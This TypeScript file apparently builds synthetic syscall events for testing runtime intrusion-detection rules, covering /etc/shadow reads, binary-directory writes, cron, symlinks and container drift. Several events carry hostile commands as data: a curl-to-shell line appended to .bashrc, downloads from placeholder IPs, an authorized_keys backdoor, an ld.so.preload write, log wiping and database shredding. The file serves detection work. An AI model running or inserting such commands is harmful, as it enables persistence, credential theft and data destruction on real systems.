import {
  applicationUser,
  bash,
  interactive,
  mainProcess,
  proc,
  spawned,
  SSHD,
  SYSTEMD,
  type Scenario,
} from './syscall-activity';

const READ_FLAGS = 'O_RDONLY|O_CLOEXEC';
const WRITE_FLAGS = 'O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC';
const APPEND_FLAGS = 'O_WRONLY|O_CREAT|O_APPEND';

/** Scenarios about files: sensitive reads, writes below system directories, links and deletions. */
export const FILE_SCENARIOS: Scenario[] = [
  {
    id: 'directory-traversal',
    pattern: /directory traversal/i,
    placement: 'container',
    build: (context) =>
      spawned(context, 'openat', mainProcess(context), {
        file: '/etc/shadow',
        rawFile: `${context.pod?.workload.profile.workdir ?? '/srv'}/static/../../../../etc/shadow`,
        flags: READ_FLAGS,
      }),
  },
  {
    id: 'sensitive-read-trusted',
    pattern: /sensitive file trusted/i,
    build: (context) =>
      spawned(context, 'openat', context.pod ? mainProcess(context) : SSHD, {
        file: '/etc/shadow',
        flags: READ_FLAGS,
        user: {
          name: 'root',
          uid: 0,
          loginuid: -1,
          loginname: '<NA>',
          group: { name: 'root', gid: 0 },
        },
      }),
  },
  {
    id: 'sensitive-read',
    pattern: /read sensitive file/i,
    build: (context) =>
      interactive(context, 'openat', proc('cat', '/usr/bin/cat', '/etc/shadow'), {
        file: context.pod
          ? context.random.pick(['/etc/shadow', '/host/etc/shadow'])
          : '/etc/shadow',
        flags: READ_FLAGS,
      }),
  },
  {
    id: 'ssh-keys-added',
    pattern: /authorized_keys/i,
    placement: 'host',
    build: (context) =>
      interactive(
        context,
        'openat',
        bash('-c "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK5 ops >> /root/.ssh/authorized_keys"'),
        {
          file: '/root/.ssh/authorized_keys',
          flags: APPEND_FLAGS,
        },
      ),
  },
  {
    id: 'ssh-read',
    pattern: /ssh information|ssh-related/i,
    build: (context) =>
      interactive(context, 'openat', proc('cat', '/usr/bin/cat', '/root/.ssh/id_ed25519'), {
        file: '/root/.ssh/id_ed25519',
        flags: READ_FLAGS,
      }),
  },
  {
    id: 'shell-config-write',
    pattern: /modify shell configuration/i,
    build: (context) =>
      interactive(
        context,
        'openat',
        bash('-c "echo \'curl -s http://203.0.113.231/a | sh\' >> /root/.bashrc"'),
        {
          file: '/root/.bashrc',
          flags: APPEND_FLAGS,
        },
      ),
  },
  {
    id: 'shell-config-read',
    pattern: /shell configuration/i,
    build: (context) =>
      spawned(context, 'openat', proc('python3', '/usr/bin/python3.11', 'collect.py'), {
        file: '/root/.bashrc',
        flags: READ_FLAGS,
      }),
  },
  {
    id: 'cron',
    pattern: /cron/i,
    build: (context) =>
      interactive(context, 'openat', proc('crontab', '/usr/bin/crontab', '-'), {
        file: '/var/spool/cron/crontabs/root',
        flags: WRITE_FLAGS,
      }),
  },
  {
    id: 'clear-logs',
    pattern: /clear log/i,
    build: (context) =>
      interactive(
        context,
        'openat',
        proc('truncate', '/usr/bin/truncate', '-s 0 /var/log/auth.log'),
        {
          file: '/var/log/auth.log',
          flags: 'O_WRONLY|O_CREAT|O_TRUNC',
        },
      ),
  },
  {
    id: 'bulk-removal',
    pattern: /bulk data/i,
    build: (context) =>
      interactive(
        context,
        'execve',
        proc('shred', '/usr/bin/shred', '-uz /var/lib/postgresql/data/base/16384/*'),
        {
          file: '/var/lib/postgresql/data/base/16384/2619',
        },
      ),
  },
  {
    id: 'symlink',
    pattern: /symlink/i,
    build: (context) =>
      interactive(context, 'symlinkat', proc('ln', '/usr/bin/ln', '-s /etc/shadow /tmp/.cache'), {
        arguments: { target: '/etc/shadow', linkpath: '/tmp/.cache' },
      }),
  },
  {
    id: 'hardlink',
    pattern: /hardlink/i,
    build: (context) =>
      interactive(context, 'linkat', proc('ln', '/usr/bin/ln', '/etc/shadow /tmp/.s'), {
        arguments: { oldpath: '/etc/shadow', newpath: '/tmp/.s' },
      }),
  },
  {
    id: 'dev-shm-exec',
    pattern: /dev\/shm/i,
    build: (context) =>
      interactive(context, 'execve', proc('.sd', '/dev/shm/.sd', '', './.sd'), {
        file: '/dev/shm/.sd',
        cwd: '/dev/shm/',
        flags: 'EXE_WRITABLE|EXE_UPPER_LAYER',
      }),
  },
  {
    id: 'shell-history',
    pattern: /shell history/i,
    build: (context) =>
      interactive(context, 'unlinkat', proc('rm', '/usr/bin/rm', '-f /root/.bash_history'), {
        file: '/root/.bash_history',
        arguments: { name: '/root/.bash_history', path: '/root/.bash_history', oldpath: null },
      }),
  },
  {
    id: 'dev-create',
    pattern: /below \/?dev/i,
    placement: 'host',
    build: (context) =>
      interactive(context, 'openat', proc('touch', '/usr/bin/touch', '/dev/.udevd-cache'), {
        file: '/dev/.udevd-cache',
        flags: 'O_WRONLY|O_CREAT|O_NOCTTY|O_NONBLOCK',
      }),
  },
  {
    id: 'write-binary-dir',
    pattern: /write below binary dir|write below monitored dir/i,
    build: (context) =>
      interactive(context, 'openat', proc('cp', '/usr/bin/cp', '/tmp/ps /usr/bin/ps'), {
        file: '/usr/bin/ps',
        flags: WRITE_FLAGS,
      }),
  },
  {
    id: 'modify-binary-dir',
    pattern: /modify binary dirs/i,
    build: (context) =>
      interactive(
        context,
        'renameat2',
        proc('mv', '/usr/bin/mv', '/usr/bin/ps /usr/bin/.ps.orig'),
        {
          file: '/usr/bin/ps',
          eventArgs:
            'res=0 olddirfd=-100(AT_FDCWD) oldpath=/usr/bin/ps newdirfd=-100(AT_FDCWD) newpath=/usr/bin/.ps.orig',
        },
      ),
  },
  {
    id: 'mkdir-binary-dir',
    pattern: /mkdir binary dirs/i,
    build: (context) =>
      interactive(context, 'mkdirat', proc('mkdir', '/usr/bin/mkdir', '-p /usr/bin/.cache'), {
        arguments: { path: '/usr/bin/.cache' },
      }),
  },
  {
    id: 'write-etc',
    pattern: /below etc/i,
    build: (context) =>
      interactive(context, 'openat', bash('-c "echo /tmp/.l.so > /etc/ld.so.preload"'), {
        file: '/etc/ld.so.preload',
        flags: WRITE_FLAGS,
      }),
  },
  {
    id: 'write-root',
    pattern: /below root/i,
    build: (context) =>
      interactive(context, 'openat', proc('wget', '/usr/bin/wget', 'http://203.0.113.236/tool'), {
        file: '/root/tool',
        flags: WRITE_FLAGS,
      }),
  },
  {
    id: 'rpm-database',
    pattern: /rpm database/i,
    build: (context) =>
      interactive(context, 'openat', proc('python3', '/usr/bin/python3.9', '-c import rpm'), {
        file: '/var/lib/rpm/rpmdb.sqlite',
        flags: 'O_RDWR|O_CREAT',
      }),
  },
  {
    id: 'hidden-file',
    pattern: /hidden file/i,
    build: (context) =>
      interactive(context, 'mkdirat', proc('mkdir', '/usr/bin/mkdir', '/tmp/.X11-cache'), {
        file: '/tmp/.X11-cache',
        arguments: { newpath: null, path: '/tmp/.X11-cache' },
      }),
  },
  {
    id: 'drift-chmod',
    pattern: /drift detected \(chmod\)/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'fchmodat', proc('chmod', '/usr/bin/chmod', '+x /tmp/agent'), {
        arguments: {
          filename: '/tmp/agent',
          name: null,
          mode: 'S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR',
        },
      }),
  },
  {
    id: 'drift-create',
    pattern: /drift detected \(open\+create\)/i,
    placement: 'container',
    build: (context) =>
      interactive(
        context,
        'openat',
        proc('curl', '/usr/bin/curl', '-so /tmp/agent http://203.0.113.235/agent'),
        {
          file: '/tmp/agent',
          flags: 'O_WRONLY|O_CREAT|O_TRUNC',
          arguments: { filename: null, name: '/tmp/agent', mode: '0755' },
        },
      ),
  },
  {
    id: 'container-entrypoint',
    pattern: /entrypoint/i,
    placement: 'container',
    build: (context) =>
      interactive(context, 'openat', proc('exploit', '/tmp/exploit', '', './exploit'), {
        file: '/proc/self/exe',
        flags: 'O_RDONLY|O_PATH',
      }),
  },
  {
    id: 'block-device',
    pattern: /block device|device access/i,
    placement: 'container',
    build: (context) =>
      interactive(
        context,
        'openat',
        proc('dd', '/usr/bin/dd', 'if=/dev/nvme0n1 of=/tmp/disk.img bs=1M count=64'),
        {
          file: '/dev/nvme0n1',
          flags: 'O_RDONLY',
        },
      ),
  },
  {
    id: 'xz-backdoor',
    pattern: /liblzma|backdoored/i,
    placement: 'host',
    build: () => ({
      eventType: 'openat',
      process: proc('sshd', '/usr/sbin/sshd', '-D'),
      parents: [SYSTEMD],
      user: {
        name: 'root',
        uid: 0,
        loginuid: -1,
        loginname: '<NA>',
        group: { name: 'root', gid: 0 },
      },
      cwd: '/',
      file: '/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1',
      flags: READ_FLAGS,
      sessionLeader: 'sshd',
    }),
  },
  {
    id: 'application-file-write',
    pattern: /container access to host|host filesystem/i,
    placement: 'container',
    build: (context) =>
      spawned(context, 'openat', mainProcess(context), {
        file: '/host/var/lib/kubelet/pki/kubelet-client-current.pem',
        flags: READ_FLAGS,
        user: applicationUser(context),
      }),
  },
];
